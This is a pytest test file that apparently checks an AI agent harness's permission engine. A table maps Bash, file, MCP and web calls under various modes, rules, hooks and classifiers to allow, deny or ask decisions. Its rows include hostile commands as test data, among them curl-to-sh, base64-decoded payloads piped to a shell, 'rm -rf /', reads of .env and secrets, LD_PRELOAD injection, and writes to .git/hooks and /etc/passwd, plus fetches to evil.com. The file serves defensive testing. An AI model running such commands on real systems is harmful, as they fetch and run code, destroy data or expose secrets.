"""Who decides on a call, step by step, and once more as a sandbox shows the paths."""

from __future__ import annotations

import asyncio
from collections.abc import Sequence
from pathlib import Path
from typing import Any, NamedTuple

import pytest
from harness.permissions.kit import World, make_world

from skilleval.harness.permissions import (
    Answer,
    Call,
    Capability,
    Classifier,
    Decision,
    HookVerdict,
    Mode,
    PermissionPolicy,
    Rules,
    decide,
    visible_tools,
)

# A row is: result | mode | what is set up | the call
#
# result  `+` allowed, `-` denied, `?` denied by the person who was asked; then the step
# mode    `every` stands for all six, `others` for all but dontAsk
# set up  deny:, ask:, allow: with a rule; hook: with what it says; person: yes, none, or broken
#         (without it, a person who says no); model: with what the classifier's model does (without
#         it, there is none)
# call    `$ command`, or `Tool key=value`
#
# @ws is the workspace: src/app.py, docs/readme.md, secrets/key, .env and the protected files are
# in it; out links to @out beside it, in to src, hooks to .git/hooks; @more is an additional
# directory. @300 is a list of 300 times `wc -l`.
ROWS = r"""
# --- 0. malformed input is denied before anything else
- schema | every | | Bash command=1
- schema | every | | Bash
- schema | every | | Read file_path=nul
- schema | every | | Edit
- schema | every | | Skill skill=1
- schema | every | | WebFetch url=1
- schema | bypassPermissions | hook: allow; allow: Bash | Bash command=1
- schema | default | deny: Bash; hook: deny | Bash command=1
- schema | default | person: yes | Bash command=1

# --- 1. hooks: a denial is the end
- hook | every | hook: deny | $ ls
- hook | every | hook: deny; allow: Bash | $ ls
- hook | every | hook: deny; deny: Bash | $ ls
- hook | default | hook: deny; person: yes | $ ls
- hook | auto | hook: deny; model: yes | $ ls
+ hook | every | hook: allow | $ touch x
+ hook | every | hook: allow | Edit file_path=src/app.py
+ hook | every | hook: allow | mcp__db__query
+ hook | auto | hook: allow; model: no | $ ls

# --- 2. deny rules hold in every mode, and against a hook's allow
- deny rule | every | deny: Bash(rm:*) | $ rm x
- deny rule | every | deny: Bash(rm:*); allow: Bash(rm:*) | $ rm x
- deny rule | every | deny: Bash(rm:*); hook: allow | $ rm x
- deny rule | every | deny: Bash(rm:*); hook: ask; person: yes | $ rm x
- deny rule | every | deny: Bash(rm:*); hook: defer; person: yes | $ rm x
- deny rule | every | deny: Bash(rm:*); ask: Bash(rm:*); person: yes | $ rm x
- deny rule | every | deny: Bash; allow: Bash(ls); person: yes | $ ls
- deny rule | every | deny: Edit; hook: allow | Edit file_path=src/app.py
- deny rule | every | deny: mcp__db; allow: mcp__db__query; hook: allow | mcp__db__query
- deny rule | auto | deny: Bash(ls:*); model: yes | $ ls
- deny rule | every | deny: AskUserQuestion; person: yes | AskUserQuestion

# --- 3. ask rules, and hooks that ask: the callback in every mode but dontAsk
? callback | others | ask: Bash(ls:*) | $ ls
+ callback | others | ask: Bash(ls:*); person: yes | $ ls
- callback | others | ask: Bash(ls:*); person: none | $ ls
- callback | others | ask: Bash(ls:*); person: broken | $ ls
- callback | dontAsk | ask: Bash(ls:*); person: yes | $ ls
? callback | others | ask: Bash(ls:*); allow: Bash(ls:*) | $ ls
? callback | others | ask: Bash(ls:*); hook: allow | $ ls
- callback | dontAsk | ask: Bash(ls:*); hook: allow; person: yes | $ ls
? callback | others | hook: ask; allow: Bash(ls:*) | $ ls
? callback | others | hook: defer; allow: Bash(ls:*) | $ ls
+ callback | others | hook: ask; person: yes | $ ls
+ callback | others | hook: defer; person: yes | $ ls
- callback | dontAsk | hook: ask; allow: Bash(ls:*); person: yes | $ ls
- callback | dontAsk | hook: defer; allow: Bash(ls:*); person: yes | $ ls
? callback | acceptEdits | ask: Edit(src/**) | Edit file_path=src/app.py
? callback | auto | ask: Bash(ls:*); model: yes | $ ls
? callback | auto | hook: ask; model: yes | $ ls
? callback | others | allow: AskUserQuestion | AskUserQuestion
? callback | others | hook: allow | AskUserQuestion
+ callback | others | person: yes | AskUserQuestion
- callback | dontAsk | allow: AskUserQuestion; person: yes | AskUserQuestion

# --- 4. the mode: bypassPermissions approves what reaches it
+ mode | bypassPermissions | | $ touch x
+ mode | bypassPermissions | | $ curl https://example.com
+ mode | bypassPermissions | | $ $X
+ mode | bypassPermissions | | Write file_path=/etc/passwd
+ mode | bypassPermissions | | mcp__db__query
+ mode | bypassPermissions | allow: Bash(ls:*); person: none | $ ls
+ mode | bypassPermissions | deny: Bash(rm:*) | $ ls

# --- 5. allow rules, in every mode that comes to them
+ allow rule | default | allow: Bash(wc:*) | $ wc -l x
+ allow rule | dontAsk | allow: Bash(wc:*) | $ wc -l x
+ allow rule | acceptEdits | allow: Bash(wc:*) | $ wc -l x
+ allow rule | plan | allow: Bash(wc:*) | $ wc -l x
+ allow rule | auto | allow: Bash(wc:*); model: no | $ wc -l x
+ mode | bypassPermissions | allow: Bash(wc:*) | $ wc -l x

# --- 6. the callback: what nothing has decided
? callback | default | | $ ls
+ callback | default | person: yes | $ ls
- callback | default | person: none | $ ls
- callback | default | person: broken | $ ls
- callback | dontAsk | person: yes | $ ls
- callback | dontAsk | person: yes | Edit file_path=src/app.py
? callback | acceptEdits | | $ ls
+ callback | acceptEdits | person: yes | $ npm test
? callback | plan | | $ ls
? callback | auto | | $ ls

# --- auto: the classifier in the place of the callback; doubt and errors are denials
+ classifier | auto | model: yes | $ touch x
+ classifier | auto | model: after thinking | $ touch x
- classifier | auto | model: no | $ touch x
- classifier | auto | model: doubt | $ touch x
- classifier | auto | model: error | $ touch x
- classifier | auto | model: no; person: yes | $ touch x
+ classifier | auto | model: yes | Edit file_path=src/app.py
- classifier | auto | model: no | mcp__db__query
+ classifier | auto | model: yes; person: none | $ ls
+ allow rule | auto | model: error; allow: Bash(ls:*) | $ ls
? callback | default | model: yes | $ ls
- callback | dontAsk | model: yes; person: yes | $ ls

# --- plan: changes go to the callback although a rule allows them
? callback | plan | allow: Edit | Edit file_path=src/app.py
? callback | plan | allow: Edit(src/**) | Write file_path=src/new.py
+ callback | plan | allow: Edit; person: yes | Edit file_path=src/app.py
- callback | plan | allow: Edit; person: none | Edit file_path=src/app.py
? callback | plan | allow: Edit | NotebookEdit notebook_path=src/a.ipynb
? callback | plan | allow: Bash | $ touch x
? callback | plan | allow: Bash(touch:*) | $ touch x
? callback | plan | allow: Bash(echo:*); allow: Edit | $ echo x > src/app.py
? callback | plan | allow: Bash | $ sed -i s/a/b/ src/app.py
? callback | plan | allow: Bash | $ wc -l x && rm x
? callback | plan | allow: Bash | $ wc -l $(rm x)
? callback | plan | allow: Bash | $ git commit -m x
? callback | plan | allow: Bash | $ find . -delete
? callback | plan | allow: Bash | $ sort -o x x
? callback | plan | allow: Bash | $ npm test
? callback | plan | allow: Bash | $ $X
+ allow rule | plan | allow: Bash | $ git log --oneline | head -3
+ allow rule | plan | allow: Bash | $ grep -r x src 2>/dev/null
+ allow rule | plan | allow: Bash | $ sed -n 1,3p src/app.py
+ allow rule | plan | allow: Read | Read file_path=src/app.py

# --- memory
? callback | default | | memory command=view
? callback | default | | memory command=create
+ allow rule | default | allow: memory | memory command=create
+ allow rule | plan | allow: memory | memory command=view
? callback | plan | allow: memory | memory command=create
? callback | plan | allow: memory | memory command=delete
? callback | plan | allow: memory | memory
- deny rule | every | deny: memory; allow: memory | memory command=view
? callback | acceptEdits | | memory command=create

# --- acceptEdits: edits inside the folders (paths)
+ mode | acceptEdits | | Edit file_path=src/app.py
+ mode | acceptEdits | | Edit file_path=@ws/src/app.py
+ mode | acceptEdits | | Write file_path=@ws/new/deep/file
+ mode | acceptEdits | | Write file_path=src/../new
+ mode | acceptEdits | | NotebookEdit notebook_path=@ws/a.ipynb
+ mode | acceptEdits | | Edit file_path=in/app.py
+ mode | acceptEdits | | Write file_path=@more/new
+ mode | acceptEdits | | Write file_path=../more/new
? callback | acceptEdits | | Write file_path=@ws/../new
? callback | acceptEdits | | Write file_path=../out/data
? callback | acceptEdits | | Write file_path=@out/data
? callback | acceptEdits | | Write file_path=@ws-2/x
? callback | acceptEdits | | Write file_path=/etc/passwd
? callback | acceptEdits | | Write file_path=~/x
? callback | acceptEdits | | Write file_path=out/data
? callback | acceptEdits | | Write file_path=@ws/out/new
? callback | acceptEdits | | Read file_path=src/app.py
+ allow rule | acceptEdits | allow: Edit(//@out/**) | Write file_path=@out/data
? callback | default | | Write file_path=src/app.py
- callback | dontAsk | | Write file_path=src/app.py

# --- acceptEdits: never protected files (paths)
? callback | acceptEdits | | Write file_path=.git/config
? callback | acceptEdits | | Write file_path=@ws/.git/hooks/pre-commit
? callback | acceptEdits | | Write file_path=hooks/pre-commit
? callback | acceptEdits | | Write file_path=src/.git/config
? callback | acceptEdits | | Write file_path=.GIT/config
? callback | acceptEdits | | Write file_path=.claude/settings.json
? callback | acceptEdits | | Write file_path=src/../.claude/settings.json
? callback | acceptEdits | | Write file_path=.bashrc
? callback | acceptEdits | | Write file_path=@more/.zshrc
? callback | acceptEdits | | Write file_path=.mcp.json
? callback | acceptEdits | | Write file_path=.vscode/tasks.json
? callback | acceptEdits | | Write file_path=.github/workflows/ci.yml
? callback | acceptEdits | | $ touch .mcp.json
? callback | acceptEdits | | $ rm -rf .git
? callback | acceptEdits | | $ rm -rf .
? callback | acceptEdits | | $ rm -rf @ws
? callback | acceptEdits | | $ rm -rf ./*/hooks .g*
? callback | acceptEdits | | $ mkdir -p .claude/commands
? callback | acceptEdits | | $ cp src/app.py .git/hooks/pre-commit
? callback | acceptEdits | | $ cp src/app.py hooks/pre-commit
? callback | acceptEdits | | $ mv src/app.py .bashrc
? callback | acceptEdits | | $ mv .git git
? callback | acceptEdits | | $ cd .git && touch config
? callback | acceptEdits | | $ sed -i s/a/b/ .git/config
+ callback | acceptEdits | person: yes | Write file_path=.git/config
+ mode | acceptEdits | | Write file_path=.gitignore
+ mode | acceptEdits | | Write file_path=src/git/config

# --- acceptEdits: mkdir, touch, rm, rmdir, mv, cp and sed inside the folders (paths)
+ mode | acceptEdits | | $ mkdir new
+ mode | acceptEdits | | $ mkdir -p @ws/a/b @more/c
+ mode | acceptEdits | | $ touch x src/y
+ mode | acceptEdits | | $ rm src/app.py
+ mode | acceptEdits | | $ rm -rf src
+ mode | acceptEdits | | $ rm -- -x
+ mode | acceptEdits | | $ rmdir docs
+ mode | acceptEdits | | $ mv src/app.py docs/
+ mode | acceptEdits | | $ mv @ws/src/app.py @more/app.py
+ mode | acceptEdits | | $ cp -r src copy
+ mode | acceptEdits | | $ cp @more/data src/
+ mode | acceptEdits | | $ sed -i s/a/b/g src/app.py
+ mode | acceptEdits | | $ sed -i.bak -e 3d -e 's|a|b|' @ws/src/app.py
+ mode | acceptEdits | | $ touch "src/a b" 'c d'
? callback | acceptEdits | | $ touch @out/x
? callback | acceptEdits | | $ touch ../x
? callback | acceptEdits | | $ touch /etc/x
? callback | acceptEdits | | $ touch ~/x
? callback | acceptEdits | | $ touch out/x
? callback | acceptEdits | | $ rm src/../../out/data
? callback | acceptEdits | | $ rm -rf /
? callback | acceptEdits | | $ mkdir @ws-2
? callback | acceptEdits | | $ mv src/app.py @out/
? callback | acceptEdits | | $ mv @out/data src/
? callback | acceptEdits | | $ cp src/app.py out
? callback | acceptEdits | | $ cp src/app.py /etc/x
? callback | acceptEdits | | $ cp -t @out src/app.py
? callback | acceptEdits | | $ sed -i s/a/b/ @out/data
? callback | acceptEdits | | $ sed -i s/a/id/e src/app.py
? callback | acceptEdits | | $ sed -i 'w @out/data' src/app.py
? callback | acceptEdits | | $ touch $X
? callback | acceptEdits | | $ rm "$X/a"
? callback | acceptEdits | | $ touch $(pwd)/x
? callback | acceptEdits | | $ chmod +x src/app.py
? callback | acceptEdits | | $ ln -s /etc x
? callback | acceptEdits | | $ ./touch x
- callback | dontAsk | | $ touch x
? callback | default | | $ touch x

# --- acceptEdits: compound commands are as good as their worst part (paths)
+ mode | acceptEdits | | $ mkdir -p a/b && touch a/b/c
+ mode | acceptEdits | | $ mkdir a; cp src/app.py a; rm src/app.py
+ mode | acceptEdits | | $ cd src && touch x
+ mode | acceptEdits | | $ cd @more && rm data
+ mode | acceptEdits | | $ (cd src; mv app.py b.py) || rm x
+ mode | acceptEdits | | $ touch x > src/log
+ allow rule | acceptEdits | allow: Bash(wc:*) | $ touch x && wc -l x
? callback | acceptEdits | | $ touch x && wc -l x
? callback | acceptEdits | | $ touch x; rm @out/data
? callback | acceptEdits | | $ touch x | npm test
? callback | acceptEdits | | $ cd .. && touch x
? callback | acceptEdits | | $ cd @out && touch x
? callback | acceptEdits | | $ cd out && touch x
? callback | acceptEdits | | $ cd src && touch ../../x
? callback | acceptEdits | | $ touch x > @out/log
? callback | acceptEdits | | $ touch x > .bashrc
? callback | acceptEdits | | $ touch x $(npm test)
- deny rule | acceptEdits | deny: Bash(rm:*) | $ touch x && rm y
- deny rule | acceptEdits | deny: Edit(secrets/**) | $ touch secrets/x
- deny rule | acceptEdits | deny: Edit(secrets/**) | $ cd secrets && touch x

# --- commands: exact rules and prefix rules
+ allow rule | default | allow: Bash(git diff:*) | $ git diff
+ allow rule | default | allow: Bash(git diff:*) | $ git diff HEAD -- 'a b'
? callback | default | allow: Bash(git diff:*) | $ git difftool
? callback | default | allow: Bash(git diff:*) | $ git
? callback | default | allow: Bash(git diff:*) | $ git -C @out diff
+ allow rule | default | allow: Bash(git status) | $ git status
? callback | default | allow: Bash(git status) | $ git status -s
+ allow rule | default | allow: Bash(git status) | $ git 'status'
+ allow rule | default | allow: Bash(wc:*) | $ /usr/bin/wc x
? callback | default | allow: Bash(wc:*) | $ ./wc x
? callback | default | allow: Bash(wc:*) | $ @out/wc x
+ allow rule | default | allow: Bash(wc -l:*); allow: Bash(head -1) | $ wc -l x | head -1
? callback | default | allow: Bash(wc:*) | $ wc -l x | head -1
? callback | default | allow: Bash(wc:*) | $ wc x; touch y
? callback | default | allow: Bash(wc:*) | $ wc x && touch y
? callback | default | allow: Bash(wc:*) | $ wc x || touch y
? callback | default | allow: Bash(wc:*) | $ wc x & touch y
? callback | default | allow: Bash(wc:*) | $ wc x > y
? callback | default | allow: Bash(wc:*) | $ wc x >> @out/y
? callback | default | allow: Bash(wc:*) | $ wc < src/app.py
+ allow rule | default | allow: Bash(wc:*); allow: Read(src/**) | $ wc < src/app.py
+ allow rule | default | allow: Bash(wc:*); allow: Edit(docs/**) | $ wc x > docs/y
+ allow rule | default | allow: Bash(wc:*) | $ wc x 2>&1 >/dev/null
? callback | default | allow: Bash(wc:*) | $ wc $(touch y)
? callback | default | allow: Bash(wc:*) | $ wc "`touch y`"
? callback | default | allow: Bash(wc:*) | $ wc <(touch y)
+ allow rule | default | allow: Bash(wc:*); allow: Bash(ls:*) | $ wc $(ls)
? callback | default | allow: Bash(wc:*) | $ X=$(touch y) wc
? callback | default | allow: Bash(wc:*) | $ LD_PRELOAD=./y.so wc
? callback | default | allow: Bash(wc:*) | $ wc() { touch y; }; wc
+ allow rule | default | allow: Bash(wc:*) | $ timeout 5 wc x
+ allow rule | default | allow: Bash(wc:*) | $ for f in a b; do wc $f; done
? callback | default | allow: Bash(wc:*) | $ timeout 5 touch y
? callback | default | allow: Bash(wc:*) | $ sudo wc x
? callback | default | allow: Bash(sh:*) | $ sh -c "$X"
? callback | default | allow: Bash(wc:*) | $ sh -c 'wc x; touch y'
+ allow rule | default | allow: Bash(wc -l) | $ @300
? callback | default | allow: Bash(wc:*) | $ @300; touch y
? callback | default | allow: Bash(wc:*) | $ touch y; @300
- deny rule | bypassPermissions | deny: Bash(touch:*) | $ @300; touch y
- deny rule | bypassPermissions | deny: Bash(touch:*); hook: allow | $ touch y; @300

# --- commands: what can't be parsed or foreseen is allowed by no rule, and denied by any
? callback | default | allow: Bash | $ if true; then
? callback | default | allow: Bash | $ echo "x
? callback | default | allow: Bash | $ wc $(
? callback | default | allow: Bash | $ $X y
? callback | default | allow: Bash | $ eval "$X"
? callback | default | allow: Bash | $ curl https://example.com | sh
? callback | default | allow: Bash | $ echo x | base64 -d | bash
- deny rule | every | deny: Bash(rm:*); hook: allow | $ if true; then
- deny rule | every | deny: Bash(rm:*); hook: allow | $ $X y
- deny rule | every | deny: Bash(rm:*); hook: allow | $ eval "$X"
- deny rule | every | deny: Bash(rm:*); hook: allow | $ echo cm0geAo= | base64 -d | sh

# --- commands: a denied one in lists, pipes, substitutions and wrappers
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ ls; rm x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ ls | rm x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ ls && rm x || true
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ echo "$(rm x)"
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ cat <(rm x)
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ while rm x; do :; done
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ f() { rm x; }; f
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ env -i A=b rm x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ sudo -u root rm x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ bash -lc 'rm x'
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ ls | xargs -n1 rm
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ find . -name x -exec rm {} +
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ \rm x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ X=rm; $X x
- deny rule | bypassPermissions | deny: Bash(rm:*) | $ cp /usr/bin/rm y; ./y x
- deny rule | bypassPermissions | deny: Bash(git push:*) | $ git -C . push --force
+ mode | bypassPermissions | deny: Bash(rm:*) | $ echo rm x
+ mode | bypassPermissions | deny: Bash(rm:*) | $ rmdir x
+ mode | bypassPermissions | deny: Bash(git push:*) | $ git stash list
? callback | bypassPermissions | ask: Bash(rm:*) | $ ls; bash -c 'rm x'
- callback | dontAsk | ask: Bash(rm:*); allow: Bash | $ ls; rm x

# --- Read and Edit rules for paths (paths)
+ allow rule | default | allow: Read(src/**) | Read file_path=src/app.py
+ allow rule | default | allow: Read(src/**) | Read file_path=@ws/src/app.py
+ allow rule | default | allow: Read(/src/**) | Read file_path=src/app.py
+ allow rule | default | allow: Read(//@ws/src/**) | Read file_path=src/app.py
+ allow rule | default | allow: Read(src/**) | Grep pattern=x path=src
+ allow rule | default | allow: Read(src/**) | Glob pattern=src/*.py
? callback | default | allow: Read(src/**) | Read file_path=docs/readme.md
? callback | default | allow: Read(src/**) | Read file_path=src/../secrets/key
? callback | default | allow: Read(src/**) | Read file_path=/etc/passwd
? callback | default | allow: Read(./**) | Read file_path=out/data
? callback | default | allow: Read(src/**) | Edit file_path=src/app.py
? callback | default | allow: Read(src/**) | Glob pattern=**/*.py
+ allow rule | default | allow: Edit(src/**) | Edit file_path=src/app.py
+ allow rule | default | allow: Edit(src/**) | Write file_path=src/new.py
+ allow rule | dontAsk | allow: Edit(*.py) | Edit file_path=src/app.py
? callback | default | allow: Edit(src/**) | Write file_path=src/../new.py
+ allow rule | default | allow: Read(//@out/**) | Read file_path=@out/data
- deny rule | every | deny: Read(secrets/**); allow: Read | Read file_path=secrets/key
- deny rule | every | deny: Read(secrets/**); hook: allow | Read file_path=@ws/secrets/key
- deny rule | every | deny: Read(secrets/**) | Read file_path=src/../secrets/key
- deny rule | every | deny: Read(.env); hook: allow | Read file_path=./.env
- deny rule | every | deny: Read(.env) | $ cat .env
- deny rule | every | deny: Read(.env) | $ cd src; cat ../.env
- deny rule | every | deny: Read(.env) | $ cat < .env
- deny rule | every | deny: Read(.env) | $ cat .e*
- deny rule | every | deny: Read(secrets/**) | $ cat @ws/secrets/key
- deny rule | every | deny: Read(//@out/**) | Read file_path=out/data
- deny rule | every | deny: Edit(src/**); hook: allow | Edit file_path=in/app.py
- deny rule | every | deny: Edit(src/**) | $ echo x > src/app.py
- deny rule | every | deny: Edit(src/**) | $ tee src/new.py
- deny rule | every | deny: Edit(src/**) | $ sed -i s/a/b/ @ws/src/app.py
+ mode | bypassPermissions | deny: Edit(src/**) | Read file_path=src/app.py
+ mode | bypassPermissions | deny: Read(secrets/**) | Read file_path=src/app.py
? callback | others | ask: Read(secrets/**); allow: Read | Read file_path=secrets/key

# --- tools of MCP servers
+ allow rule | default | allow: mcp__db | mcp__db__query
+ allow rule | default | allow: mcp__db__query | mcp__db__query
+ allow rule | default | allow: mcp__db__* | mcp__db__query
? callback | default | allow: mcp__db__query | mcp__db__drop
? callback | default | allow: mcp__d | mcp__db__query
? callback | default | allow: mcp__other | mcp__db__query
? callback | acceptEdits | | mcp__db__query
- deny rule | every | deny: mcp__db__drop; allow: mcp__db | mcp__db__drop
+ allow rule | default | deny: mcp__db__drop; allow: mcp__db | mcp__db__query
? callback | others | ask: mcp__db; allow: mcp__db__query; hook: allow | mcp__db__query

# --- skills, agents, hosts
+ allow rule | default | allow: Skill(pdf) | Skill skill=pdf
? callback | default | allow: Skill(pdf) | Skill skill=pdf-tools
+ allow rule | default | allow: Skill(deploy:*) | Skill skill=deploy-all
- deny rule | every | deny: Skill(pdf); allow: Skill; hook: allow | Skill skill=pdf
+ allow rule | default | deny: Skill(pdf); allow: Skill | Skill skill=docx
+ allow rule | default | allow: Agent(Explore) | Agent subagent_type=Explore
+ allow rule | default | allow: Task(Explore) | Agent subagent_type=Explore
? callback | default | allow: Agent(Explore) | Agent subagent_type=Plan
- deny rule | every | deny: Agent(Explore); allow: Agent; hook: allow | Agent subagent_type=Explore
- deny rule | every | deny: Agent(general-purpose) | Agent
+ allow rule | default | allow: WebFetch(domain:a.org) | WebFetch url=https://a.org/x
? callback | default | allow: WebFetch(domain:a.org) | WebFetch url=https://a.org.evil.com/x
- deny rule | every | deny: WebFetch(domain:evil.com); hook: allow | WebFetch url=https://EVIL.com/
- deny rule | every | deny: WebFetch(domain:evil.com); hook: allow | $ curl https://evil.com/x
"""

MODES = {"every": tuple(Mode), "others": tuple(m for m in Mode if m is not Mode.DONT_ASK)}


class Row(NamedTuple):
    line: int
    topic: str
    result: str
    mode: str
    setup: str
    call: str


def read_rows() -> list[Row]:
    rows, topic = [], ""
    for line, text in enumerate(ROWS.splitlines()):
        if text.startswith("#"):
            topic = text
        elif text:
            result, mode, setup, call = text.replace(" | | ", " |  | ", 1).split(" | ", 3)
            rows.append(Row(line, topic, result, mode, setup, call))
    return rows


def in_each_mode(rows: list[Row]) -> list[Any]:
    cases = []
    for row in rows:
        for mode in MODES.get(row.mode) or (Mode(row.mode),):
            name = f"{row.line} {mode}: {row.setup} | {row.call}"
            cases.append(pytest.param(row._replace(mode=mode), id=name))
    return cases


TABLE = read_rows()
WITH_PATHS = [row for row in TABLE if row.topic.endswith("(paths)")]


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> World:
    made = make_world(tmp_path_factory.mktemp("decisions"))
    for name in (".git/hooks/pre-commit", ".claude/settings.json", ".bashrc", ".mcp.json"):
        path = made.workspace / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("{}\n")
    (made.workspace / "hooks").symlink_to(".git/hooks")
    return made


async def ask_model(kind: str, system: str) -> str:
    """A model that classifies: its first question wants one word, its second an object."""
    if kind == "error":
        raise ConnectionError("no model")
    if "one word" in system:
        return "SAFE" if kind == "yes" else "UNSURE"
    verdict = {"after thinking": "allow", "no": "deny"}.get(kind, "perhaps")
    return f'{{"decision": "{verdict}", "reason": "because"}}'


class Setup:
    """What stands in the third column."""

    def __init__(self, text: str) -> None:
        lists: dict[str, list[str]] = {"deny": [], "ask": [], "allow": []}
        one: dict[str, str] = {}
        for part in filter(None, (part.strip() for part in text.split(";"))):
            key, value = (each.strip() for each in part.split(":", 1))
            if key in lists:
                lists[key].append(value)
            else:
                one[key] = value
        self.rules = Rules.parse(**lists)
        behavior: Any = one.get("hook")
        self.hook = HookVerdict(behavior, "as it is set up", "guard") if behavior else None
        self.person = one.get("person", "no")
        self.model = one.get("model", "")
        self.asked = 0

    async def _answer(self, call: Call, needs: Sequence[Capability], reason: str) -> Answer:
        self.asked += 1
        if self.person == "broken":
            raise ConnectionError("nobody there")
        return Answer(self.person == "yes")

    def decide(self, call: Call, policy: Any) -> Decision:
        model = self.model
        return asyncio.run(
            decide(
                call,
                policy,
                hooks=self.hook,
                callback=None if self.person == "none" else self._answer,
                classifier=Classifier(lambda s, _: ask_model(model, s)) if model else None,
            )
        )


def read_call(text: str) -> Call:
    if text.startswith("$ "):
        return Call("Bash", {"command": text[2:]})
    tool, *pairs = text.split(" ")
    given: dict[str, Any] = dict(pair.split("=", 1) for pair in pairs)
    special = {"1": 1, "nul": "a\0b"}
    return Call(tool, {key: special.get(value, value) for key, value in given.items()})


def check(row: Row, call: str, world: World, **more: Any) -> None:
    setup = Setup(world.fill(row.setup))
    policy = world.policy(Mode(row.mode), rules=setup.rules, **more)
    decision = setup.decide(read_call(call.replace("@300", "; ".join(["wc -l"] * 300))), policy)
    sign = "+" if decision.allowed else "?" if setup.asked and setup.person == "no" else "-"
    assert f"{sign} {decision.step}" == row.result, decision
    assert decision.step == "callback" or not setup.asked


def test_the_table_is_what_it_seems() -> None:
    assert len(TABLE) >= 160
    assert len({row[2:] for row in TABLE}) == len(TABLE)
    assert len(WITH_PATHS) >= 100


@pytest.mark.parametrize("row", in_each_mode(TABLE))
def test_row(row: Row, world: World) -> None:
    check(row, world.fill(row.call), world)


@pytest.mark.parametrize("row", in_each_mode(WITH_PATHS))
def test_row_with_paths_of_a_sandbox(row: Row, world: World) -> None:
    """Rules are about this machine's folders, calls about those that the sandbox shows."""
    mounts = (("/workspace", str(world.workspace)), ("/more", str(world.more)))
    call = row.call.replace("@ws", "/workspace").replace("@more", "/more")
    check(row, world.fill(call), world, mounts=mounts)


@pytest.mark.parametrize("mode", list(Mode))
def test_a_path_of_this_machine_is_denied_in_a_sandbox_as_well(world: World, mode: Mode) -> None:
    mounts = (("/workspace", str(world.workspace)),)
    setup = Setup("deny: Read(secrets/**); hook: allow")
    policy = world.policy(mode, rules=setup.rules, mounts=mounts)
    for path in ("/workspace/secrets/key", f"{world.workspace}/secrets/key", "secrets/key"):
        for call in (Call("Read", {"file_path": path}), Call("Bash", {"command": f"cat {path}"})):
            assert setup.decide(call, policy).step == "deny rule", call


@pytest.mark.parametrize(
    ("deny", "left"),
    [
        ([], ["Bash", "Read", "Agent", "mcp__db__query", "mcp__db__drop", "mcp__dbx__query"]),
        (["Bash"], ["Read", "Agent", "mcp__db__query", "mcp__db__drop", "mcp__dbx__query"]),
        (["Bash(*)"], ["Read", "Agent", "mcp__db__query", "mcp__db__drop", "mcp__dbx__query"]),
        (["Bash(rm:*)"], ["Bash", "Read", "Agent", *("mcp__db__query", "mcp__db__drop"),
                          "mcp__dbx__query"]),
        (["Task", "Read"], ["Bash", "mcp__db__query", "mcp__db__drop", "mcp__dbx__query"]),
        (["mcp__db"], ["Bash", "Read", "Agent", "mcp__dbx__query"]),
        (["mcp__db__dr*", "Read"], ["Bash", "Agent", "mcp__db__query", "mcp__dbx__query"]),
        (["mcp__*"], ["Bash", "Read", "Agent"]),
        (["*"], []),
    ],
)  # fmt: skip
def test_a_bare_name_that_is_denied_is_not_shown(deny: list[str], left: list[str]) -> None:
    names = ["Bash", "Read", "Agent", "mcp__db__query", "mcp__db__drop", "mcp__dbx__query"]
    assert visible_tools(names, Rules.parse(deny, ["Read"], ["Bash"])) == left


def test_a_link_that_appears_later_is_followed_then(tmp_path: Path) -> None:
    world = make_world(tmp_path)
    setup = Setup("")
    call = Call("Write", {"file_path": "later/x"})
    policy = world.policy(Mode.ACCEPT_EDITS)
    assert setup.decide(call, policy).allowed
    (world.workspace / "later").symlink_to(world.outside)
    assert not setup.decide(call, policy).allowed


@pytest.mark.parametrize(
    "command",
    [
        "cd -P out/.. && touch x",
        "cd -P -- out/.. && rm -rf more2",
        "mv g .config",
        "cp -r g/. .config",
        "mkdir h; touch h/git; mv h .config",
    ],
)
def test_what_would_land_outside_or_become_protected_is_asked_about(
    tmp_path: Path, command: str
) -> None:
    outside, workspace = tmp_path / "more" / "deep", tmp_path / "work"
    outside.mkdir(parents=True)
    (workspace / "g" / "git").mkdir(parents=True)
    (workspace / "out").symlink_to(outside)
    policy = PermissionPolicy(Mode.ACCEPT_EDITS, workspace=str(workspace))
    found = asyncio.run(decide(Call("Bash", {"command": command}), policy))
    assert (found.allowed, found.step) == (False, "callback")
